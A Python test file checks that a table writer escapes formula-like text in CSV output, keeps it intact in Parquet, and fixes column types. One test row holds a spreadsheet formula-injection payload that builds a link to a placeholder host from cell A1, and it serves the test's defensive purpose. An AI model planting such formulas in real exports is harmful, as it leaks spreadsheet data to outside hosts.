"""The comparison's tables: CSV safe to open in a spreadsheet, Parquet as read, types fixed."""
import pandas as pd

from extraction.compare.write import write_table


def test_a_formula_like_text_is_neutralised_in_the_csv_and_kept_in_parquet(tmp_path):
    rows = [{"agency": '=HYPERLINK("http://example.invalid/"&A1,"x")', "year": 2023, "value": 12.0, "ok": True},
            {"agency": "示例县审计局", "year": 2024, "value": 0.1, "ok": None}]
    write_table(tmp_path, "series", rows, ["agency", "year", "value", "ok"])
    lines = (tmp_path / "series.csv").read_text(encoding="utf-8").splitlines()
    assert lines[0] == "agency,year,value,ok"
    assert lines[1].startswith("\"'=HYPERLINK(") and lines[1].endswith(",2023,12,True")
    assert lines[2] == "示例县审计局,2024,0.1,"
    parquet = pd.read_parquet(tmp_path / "series.parquet")
    assert parquet["agency"][0] == rows[0]["agency"]
    assert str(parquet["year"].dtype) == "Int64" and pd.isna(parquet["ok"][1])
    assert not list(tmp_path.glob("*.tmp"))
